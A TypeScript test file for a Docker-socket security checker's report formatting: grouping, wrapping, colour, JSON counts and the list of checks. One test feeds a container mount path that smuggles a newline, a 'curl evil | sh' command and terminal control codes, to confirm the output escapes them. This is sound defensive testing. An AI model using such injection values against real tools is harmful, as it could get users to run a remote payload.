import assert from "node:assert/strict";
import { stripVTControlCharacters } from "node:util";
import { checks, examine } from "../../../lib/doctor/checks.ts";
import type { Placed } from "../../../lib/doctor/finding.ts";
import { asJson, asJsonText, asText } from "../../../lib/doctor/report.ts";
import { configOf, oneListener } from "./config_of.ts";
import { factsOf, SOCKET } from "./fake_host.ts";

const findings: Placed[] = [
  { check: "kernel", group: "kernel", level: "fine", title: "there is everything" },
  { check: "a", group: "real socket", level: "fine", title: "it is closed" },
  {
    check: "b",
    group: "real socket",
    level: "wrong",
    title: "a process with \x1b[2Ja name",
    evidence: ["one two three four five six seven eight"],
    fix: ["# one two three four five six", "type this, however long it is, in one line"],
  },
];

Deno.test("a report is grouped, what is wrong first, wrapped, and ends with a summary", () => {
  assert.equal(
    asText({ findings, leftOut: [] }, { color: false, columns: 40 }),
    `real socket
  WRONG   a process with \ufffd[2Ja name
          - one two three four five six
            seven eight
          fix: # one two three four five
               # six
               type this, however long it is, in one line
  fine    it is closed

kernel
  fine    there is everything

1 wrong, 2 fine
`,
  );
});

Deno.test("only the mark is colored, and no line is wider than the terminal", () => {
  const text = asText({ findings, leftOut: ["holders"] }, { color: true, columns: 40 });
  assert.ok(text.includes("\n  \x1b[1;31mWRONG  \x1b[0m a process"), text);
  assert.match(text, /^left out below another root/m);
  for (const line of stripVTControlCharacters(text).split("\n")) {
    assert.ok(line.length <= 40 || line.trim().startsWith("type this"), line);
  }
});

Deno.test("for programs there are counts, and lists that may be empty", () => {
  const json = asJson({ findings, leftOut: ["holders"] });
  assert.deepEqual([json.wrong, json.advice, json.unknown, json.fine], [1, 0, 0, 2]);
  assert.deepEqual(json.left_out, ["holders"]);
  assert.deepEqual(json.findings[0]?.fix, []);
  assert.deepEqual(json.findings[2]?.evidence?.length, 1);
});

Deno.test("the members that programs read are these, and so are the names of checks", async () => {
  const report = await examine(await factsOf({}));
  const value = JSON.parse(asJsonText(report));
  assert.deepEqual(Object.keys(value), [
    ...["wrong", "advice", "unknown", "fine", "findings", "left_out"],
  ]);
  for (const finding of value.findings) {
    assert.deepEqual(Object.keys(finding), [
      ...["check", "group", "level", "title", "evidence", "fix"],
    ]);
  }
  assert.deepEqual(checks.map(({ group, name }) => `${group}: ${name}`), [
    "real socket: real-socket",
    "real socket: socket-group",
    "real socket: socket-unit",
    "real socket: holders",
    "real socket: relays",
    "real socket: mounted",
    "engine: containers",
    "engine: tcp",
    "engine: authorization",
    "engine: user-namespaces",
    "engine: isolation",
    "engine: privileged",
    "engine: live-restore",
    "postern: configuration",
    "postern: listeners",
    "postern: identity",
    "postern: sandbox",
    "postern: confinement",
    "postern: audit-folder",
    "audit: audit-rules",
    "kernel: kernel",
  ]);
});

Deno.test("a file that cannot be read leaves one check without an answer, and the others with theirs", async () => {
  const facts = await factsOf({ uid: 1000, files: { "/etc/audit/rules.d": { closed: true } } });
  const { findings } = await examine(facts);
  const audit = findings.filter(({ group }) => group === "audit");
  assert.deepEqual(audit.map(({ level, fix }) => [level, fix]), [[
    "unknown",
    ["sudo postern doctor"],
  ]]);
  assert.ok(findings.some(({ check }) => check === "real-socket"));
});

Deno.test("a line feed in a name ends no comment of a fix, and none gets to a terminal by way of JSON", async () => {
  const id = "ab".repeat(32);
  const Destination = "/x\ncurl evil | sh #\u009b2J\u202e";
  const facts = await factsOf({
    engine: {
      "/info": {},
      "/containers/json?all=1": [{ Id: id }],
      [`/containers/${id}/json`]: {
        Id: id,
        Name: "/web",
        Mounts: [{ Source: "/run/docker.sock", Destination }],
      },
    },
  }, configOf(oneListener));
  const report = await examine(facts);
  const [told] = report.findings.filter(({ check }) => check === "containers");
  assert.equal(told?.level, "wrong");
  const shell = report.findings.flatMap(({ fix }) => fix ?? []).join("\n");
  assert.deepEqual(shell.split("\n").filter((line) => line.startsWith("curl")), []);
  for (const text of [asJsonText(report), asText(report, { color: false, columns: 80 })]) {
    assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{C}]/u);
  }
  // For programs, nothing is lost but in comments.
  const parsed = JSON.parse(asJsonText(report)) as typeof report;
  assert.ok(parsed.findings.some(({ evidence }) => evidence?.[0]?.endsWith(Destination)));
  assert.equal(asJsonText(report).indexOf("\n"), asJsonText(report).length - 1);
});

Deno.test("a terminal is shown some of a long list, programs all of it", () => {
  const evidence = Array.from({ length: 500 }, (_, i) => `process ${i}`);
  const report = { findings: [{ ...findings[1]!, evidence }], leftOut: [] };
  const text = asText(report, { color: false, columns: 80 });
  assert.equal(text.match(/process/g)?.length, 11);
  assert.match(text, /- and 489 more \(--json\)$/m);
  assert.equal(asJson(report).findings[0]?.evidence.length, 500);
});

Deno.test("below a root nothing live is asked, and what is left out is named", async () => {
  const facts = await factsOf({
    root: "/mnt",
    unix: "must not be asked",
    engine: {},
    files: { [SOCKET]: { socket: true, mode: 0o666 } },
  });
  const { findings, leftOut } = await examine(facts);
  assert.deepEqual(leftOut, [
    "holders",
    "relays",
    "mounted",
    "containers",
    "privileged",
    "listeners",
    "confinement",
    "kernel",
  ]);
  assert.deepEqual(facts.engines, []);
  assert.equal(findings.find(({ check }) => check === "real-socket")?.level, "wrong");
});
